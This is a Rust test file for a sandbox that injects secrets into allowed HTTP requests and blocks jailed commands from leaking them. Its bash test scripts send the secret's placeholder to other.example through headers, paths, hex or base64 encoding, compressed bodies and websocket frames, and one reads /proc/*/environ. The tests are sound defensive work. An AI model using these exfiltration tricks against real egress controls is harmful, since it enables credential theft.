//! Secrets that can be used and not be read.

use std::process::Command;
use std::sync::atomic::{AtomicUsize, Ordering};

use super::in_each_tier;
use super::requests::assert_denied;
use super::service::Service;
use super::support::jail::{Jail, Ran};
use super::support::place::Place;
use super::support::tier::Tier;
use super::world::World;

/// What nobody in a jail may ever see.
const SECRET: &str = "hunter2-the-real-one";

/// A profile whose secret comes from `source`.
fn profile(source: &str) -> String {
    format!(
        r#"
summary = "Test."
extends = "untrusted"
[egress]
allow = ["other.example"]
[[egress.http]]
host = "good.example"
methods = ["GET", "POST"]
paths = ["/api/**", "/headers"]
inject = {{ header = "Authorization", secret = "test", format = "Bearer {{}}" }}
[[egress.http]]
host = "a.wild.example"
methods = ["*"]
paths = ["/**"]
websocket = true
inject = {{ header = "Authorization", secret = "test", basic = "me" }}
[egress.secrets.test]
env = "TEST_TOKEN"
{source}
"#
    )
}

/// Puts the profile with a secret of this source into the world, under a name that no other test has.
fn known(world: &World, source: &str) -> String {
    static MADE: AtomicUsize = AtomicUsize::new(0);
    let name = format!("secret-{}", MADE.fetch_add(1, Ordering::Relaxed));
    world.profile(&name, &profile(source));
    name
}

fn with(world: &World, place: &Place, source: &str, script: &str) -> Ran {
    let name = known(world, source);
    let jail = Jail::new(place).profile(&name).patient(80).environment("OUTER_SECRET", SECRET);
    jail.finish(world.start(place, &jail, &["bash", "-c", script]))
}

fn by_environment(world: &World, place: &Place, script: &str) -> Ran {
    with(world, place, "environment = \"OUTER_SECRET\"", script)
}

#[test]
fn a_secret_is_put_into_allowed_requests_and_the_command_never_sees_it() {
    in_each_tier(|world, place| {
        let token = &place.token;
        let ran = by_environment(
            world,
            place,
            &format!(
                "echo \"$TEST_TOKEN\"; env | grep -c {SECRET}; curl -sS https://good.example/api/{token}; \
                 curl -sS -H \"Authorization: Bearer $TEST_TOKEN\" https://good.example/api/{token}2; \
                 curl -sS -H \"Authorization: Bearer own\" https://good.example/headers; \
                 curl -sS -u me:$TEST_TOKEN https://a.wild.example/headers; cat /proc/*/environ 2>/dev/null | grep -c {SECRET}"
            ),
        );
        let text = ran.text();
        let lines: Vec<&str> = text.lines().collect();
        assert!(
            lines[0].starts_with("clawjail") && lines[0].ends_with("-test") && lines[0].len() > 40,
            "{}",
            ran.whole()
        );
        assert_eq!(
            lines[1..4],
            [
                "0",
                &format!("https good.example GET /api/{token} 0"),
                &format!("https good.example GET /api/{token}2 0")
            ]
        );
        assert!(!text.contains(SECRET) && !text.contains("aHVudGVy"), "{}", ran.whole());
        // What the server repeats is made unreadable.
        assert!(text.contains(&format!("authorization: Bearer {}", "*".repeat(SECRET.len()))), "{}", ran.whole());
        assert!(world.saw(&format!("authorization good.example Bearer {SECRET}")));
        assert!(!world.log().contains("Bearer own"));
        assert!(world.saw("authorization a.wild.example Basic bWU6aHVudGVyMi10aGUtcmVhbC1vbmU="), "{}", world.log());
        assert!(!ran.verdict.to_string().contains(SECRET));
        assert_eq!(ran.own_lines(), [""; 0], "{}", ran.whole());
    });
}

/// C14: whatever stands for a secret leaves nowhere, in no form, and the denial is told.
#[test]
fn what_stands_for_a_secret_is_blocked_on_its_way_to_anybody_else() {
    in_each_tier(|world, place| {
        let script = r#"
T=$TEST_TOKEN
t() { curl -sS -o /dev/null -w '%{http_code} ' "$@"; }
E=$(printf %s "$T" | od -An -tx1 | tr -d '\n' | tr ' ' %)
B=$(printf 'x%s' "$T" | base64 -w0)
t -H "Authorization: Bearer $T" https://other.example/leak
t -H "X-Any: $T" https://other.example/leak
t -u "me:$T" https://other.example/leak
t "https://other.example/leak?t=$T"
t "https://other.example/leak/$T"
t "https://other.example/leak?t=$E"
t -H "X: $B" https://other.example/leak
t -d "$T" https://other.example/leak
t -d "token=$E" https://other.example/leak
t -d "$B" https://other.example/leak
(head -c 300000 /dev/zero | tr '\0' a; printf %s "$T"; head -c 100 /dev/zero) | t --data-binary @- https://other.example/leak
t -H 'Transfer-Encoding: chunked' -d "$T" https://other.example/leak
t -H "X-Any: $T" http://other.example/leak
t -d "$T" http://other.example/leak
t -H "X-Any: $T" https://good.example/api/leak
t -d "$T" https://good.example/api/leak
t "https://good.example/api/leak?t=$T"
t -d fine https://other.example/fine
"#;
        let ran = by_environment(world, place, script);
        assert_eq!(ran.text(), format!("{}200", "403 ".repeat(17)), "{}", ran.whole());
        let log = world.log();
        assert!(!log.lines().any(|line| line.starts_with("placeholder") && line.contains("leak")), "{log}");
        assert!(!log.lines().any(|line| line.contains("authorization other.example")), "{log}");
        assert_denied(
            &ran,
            "request GET other.example:443/leak",
            "what stands for a secret does not leave to this host",
        );
        assert_denied(&ran, "request POST good.example:443/api/leak", "leaves only in the field `authorization`");
        assert!(ran.own_lines().iter().any(|line| line.contains("what stands for a secret")), "{}", ran.whole());
    });
}

/// A server undoes `Content-Encoding` before anybody sees the body, and so does the gate.
#[test]
fn what_stands_for_a_secret_is_found_in_a_body_that_is_compressed() {
    in_each_tier(|world, place| {
        let script = r#"
T=$TEST_TOKEN
t() { curl -sS -o out -w '%{http_code} ' --data-binary @body -H "Content-Encoding: $1" "https://other.example/$2"; }
printf 'token=%s' "$T" | gzip -c > body; t gzip packed; t GZIP packed
(head -c 3000000 /dev/zero; printf %s "$T") | gzip -c > body; t gzip packed
(printf fine | gzip -c; printf %s "$T" | gzip -c) > body; t gzip packed
/usr/bin/python3 -c 'import os, zlib; open("body", "wb").write(zlib.compress(os.environ["TEST_TOKEN"].encode()))'; t deflate packed
printf fine > body; t br packed; t gzip packed; t 'gzip, gzip' packed
printf fine | gzip -c > body; t gzip loose
/usr/bin/python3 -c 'import zlib; open("body", "wb").write(zlib.compress(b"fine"))'; t deflate loose
printf fine > body; t identity loose
"#;
        let ran = by_environment(world, place, script);
        assert_eq!(ran.text(), format!("{}200 200 200", "403 ".repeat(8)), "{}", ran.whole());
        // Other tests send placeholders elsewhere at the same time.
        let of_ours = |line: &str| {
            line.starts_with("placeholder") && ["/packed", "/loose"].iter().any(|path| line.ends_with(path))
        };
        assert!(world.saw("/loose") && !world.log().lines().any(of_ours), "{}", world.log());
        assert_denied(&ran, "request POST other.example:443/packed", "what stands for a secret does not leave");
        assert!(ran.verdict["denials"].to_string().contains("in which nobody can look"), "{}", ran.verdict["denials"]);
        // Where there is no secret, nobody looks, and any coding goes on.
        world.profile(
            "no-secret",
            "summary = \"Test.\"\nextends = \"untrusted\"\n[egress]\ninspect = \"all\"\nallow = [\"other.example\"]\n",
        );
        let ran = world.bash(
            place,
            "no-secret",
            "curl -sS -o out -w '%{http_code}' -d fine -H 'Content-Encoding: br' https://other.example/any",
        );
        assert_eq!(ran.text(), "200", "{}", ran.whole());
    });
}

#[test]
fn what_stands_for_a_secret_leaves_in_no_frame_of_a_websocket() {
    in_each_tier(|world, place| {
        place.write(
            "client.py",
            r#"
import socket, ssl, os
context = ssl.create_default_context()
c = context.wrap_socket(socket.create_connection(('a.wild.example', 443)), server_hostname='a.wild.example'); c.settimeout(5)
c.sendall(b'GET /socket HTTP/1.1\r\nHost: a.wild.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n'
    b'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n')
assert c.recv(4096).startswith(b'HTTP/1.1 101')
def say(text):
    mask = os.urandom(4)
    c.sendall(bytes([0x81, 0x80 | len(text)]) + mask + bytes(byte ^ mask[at % 4] for at, byte in enumerate(text)))
    return c.recv(200)
assert say(b'fine') == b'\x81\x04fine'
try:
    print(say(os.environ['TEST_TOKEN'].encode()))
except OSError:
    print(b'')
"#,
        );
        let ran = by_environment(world, place, "/usr/bin/python3 client.py");
        assert_eq!(ran.text(), "b''", "{}", ran.whole());
        assert!(world.saw("frame fine"));
        assert!(!world.log().contains("frame clawjail"), "{}", world.log());
        assert!(ran.verdict["denials"].to_string().contains("what stands for a secret"), "{}", ran.verdict["denials"]);
    });
}

#[test]
fn placeholders_are_of_one_jail_alone() {
    in_each_tier(|world, place| {
        let [one, other] = [(); 2].map(|()| by_environment(world, place, "echo $TEST_TOKEN").text());
        assert_ne!(one, other);
        let script = format!("curl -sS -H 'X: {one}' https://other.example/old; echo; env | grep -c TEST_TOKEN");
        let ran = by_environment(world, place, &script);
        assert!(ran.text().contains("https other.example GET /old 0"), "{}", ran.whole());
    });
}

#[test]
fn each_source_gives_its_secret() {
    in_each_tier(|world, place| {
        let is_root = place.account().uid == 0;
        let path = world.secret("file-secret", &format!("{SECRET}\n"), 0o600);
        let mut sources =
            vec!["environment = \"OUTER_SECRET\"".to_owned(), format!("command = [\"/bin/echo\", \"{SECRET}\"]")];
        if is_root {
            sources.push(format!("file = \"{path}\""));
        }
        for source in sources {
            let path = format!("/api/{}{}", place.token, source.len());
            let ran = with(world, place, &source, &format!("curl -sS https://good.example{path}"));
            assert_eq!(ran.text(), format!("https good.example GET {path} 0"), "{source}: {}", ran.whole());
            assert!(world.saw(&format!("authorization good.example Bearer {SECRET} {path}")), "{source}");
        }
    });
}

/// As systemd gives it: a directory of the service's own, whose files are of whatever mode systemd chose.
#[test]
fn a_credential_of_systemd_is_a_source() {
    in_each_tier(|world, place| {
        let directory = place.outside.join("credentials");
        let _ = std::fs::create_dir(&directory);
        std::fs::write(directory.join("test"), format!("{SECRET}\n")).expect("own file");
        let mode = |mode| std::os::unix::fs::PermissionsExt::from_mode(mode);
        std::fs::set_permissions(&directory, mode(0o755)).expect("own directory");
        std::fs::set_permissions(directory.join("test"), mode(0o444)).expect("own file");
        for (name, expected) in [("test", "200"), ("other", "403"), ("../credentials/test", "refused")] {
            let own = known(world, &format!("credential = \"{name}\""));
            let jail = Jail::new(place).profile(&own).patient(80).environment("CREDENTIALS_DIRECTORY", &directory);
            let script =
                "curl -sS -o out -w '%{http_code}' https://good.example/api/credential; env | grep -c CREDENTIALS";
            let ran = jail.finish(world.start(place, &jail, &["bash", "-c", script]));
            match expected {
                "refused" => assert!(ran.code == Some(126) && ran.text().is_empty(), "{}", ran.whole()),
                status => assert_eq!(ran.text(), format!("{status}0"), "{name}: {}", ran.whole()),
            }
        }
        assert!(world.saw(&format!("authorization good.example Bearer {SECRET} /api/credential")));
    });
}

/// A service makes a jail ahead like the last one of a client: with an authority, a placeholder and secrets of its own.
#[test]
fn a_jail_made_ahead_has_its_own_placeholder_and_the_secret_works_in_it() {
    in_each_tier(|world, place| {
        if place.tier != Tier::Root {
            return;
        }
        let path = world.secret("ahead-secret", SECRET, 0o600);
        let service = Service::start(world, place, ("secret", &profile(&format!("file = \"{path}\""))));
        let client = place.outside.join("ahead.py");
        std::fs::write(&client, AHEAD).expect("own file");
        let mut client_command = Command::new("/usr/bin/python3");
        client_command.arg(&client).arg(&service.socket).arg(&place.workspace).arg(service.pid().to_string());
        let output = world.enter(place, &client_command).output().expect("python is there");
        let text = String::from_utf8_lossy(&output.stdout).into_owned();
        let lines: Vec<&str> = text.lines().collect();
        let whole = format!("{text}{}", String::from_utf8_lossy(&output.stderr));
        assert_eq!(lines.len(), 5, "{whole}");
        assert!(
            lines[0].starts_with("clawjail") && lines[3].starts_with("clawjail") && lines[0] != lines[3],
            "{whole}"
        );
        assert_eq!(lines[2], "a gate waits: True", "{whole}");
        assert_eq!(
            (lines[1], lines[4]),
            ("https good.example GET /api/ahead1 0", "https good.example GET /api/ahead2 0"),
            "{whole}"
        );
        for run in 1..=2 {
            assert!(world.saw(&format!("authorization good.example Bearer {SECRET} /api/ahead{run}")), "{whole}");
        }
    });
}

/// Two runs of one client; in between it looks whether a gate that belongs to no run waits below the service.
const AHEAD: &str = r#"
import base64, glob, json, socket, sys, time
s = socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); lines = s.makefile('rwb')
def run(number):
    script = 'echo $TEST_TOKEN; curl -sS https://good.example/api/ahead%d' % number
    params = {'profile': 'secret', 'workspace': sys.argv[2], 'argv': ['bash', '-c', script]}
    lines.write(json.dumps({'jsonrpc': '2.0', 'id': number, 'method': 'run', 'params': params}).encode() + b'\n'); lines.flush()
    out = b''
    while True:
        said = json.loads(lines.readline())
        if 'error' in said:
            raise SystemExit(said)
        if said.get('method') == 'run.output':
            piece = said['params']
            out += piece['data'].encode() if 'data' in piece else base64.b64decode(piece['base64'])
        if said.get('method') == 'run.ended':
            print(out.decode().strip()); return
def below(pid):
    found = []
    for path in glob.glob('/proc/%s/task/*/children' % pid):
        for child in open(path).read().split():
            found += [child] + below(child)
    return found
def gates():
    names = []
    for pid in below(sys.argv[3]):
        try:
            names.append(open('/proc/%s/comm' % pid).read().strip())
        except OSError:
            pass
    return names.count('clawjail-gate')
run(1)
until = time.monotonic() + 10
while not gates() and time.monotonic() < until:
    time.sleep(0.05)
time.sleep(0.5)
print('a gate waits:', gates() > 0)
run(2)
"#;

/// C12: a request that lacks its secret is denied, and never sent bare.
#[test]
fn a_source_that_fails_denies_its_requests_and_no_others() {
    in_each_tier(|world, place| {
        let open = world.secret("open-secret", SECRET, 0o644);
        for (source, why) in [
            ("environment = \"NO_SUCH_VARIABLE\"".to_owned(), "is not set"),
            ("file = \"/etc/clawjail/missing\"".to_owned(), "cannot be opened"),
            ("command = [\"/bin/false\"]".to_owned(), "its program failed"),
            ("command = [\"/bin/sleep\", \"30\"]\ntimeout = \"200ms\"".to_owned(), "took too long"),
            ("command = [\"/bin/echo\"]".to_owned(), "is empty"),
            ("credential = \"test\"".to_owned(), "systemd gave"),
            (format!("file = \"{open}\""), "can be read by others"),
        ] {
            let script =
                "curl -sS -w '%{http_code} ' https://good.example/api/bare; curl -sS https://other.example/beside";
            let ran = with(world, place, &source, script);
            assert!(ran.text().contains("403 https other.example GET /beside 0"), "{source}: {}", ran.whole());
            assert!(ran.text().contains(why), "{source}: {}", ran.whole());
        }
        assert!(!world.log().contains("/api/bare"), "{}", world.log());
    });
}
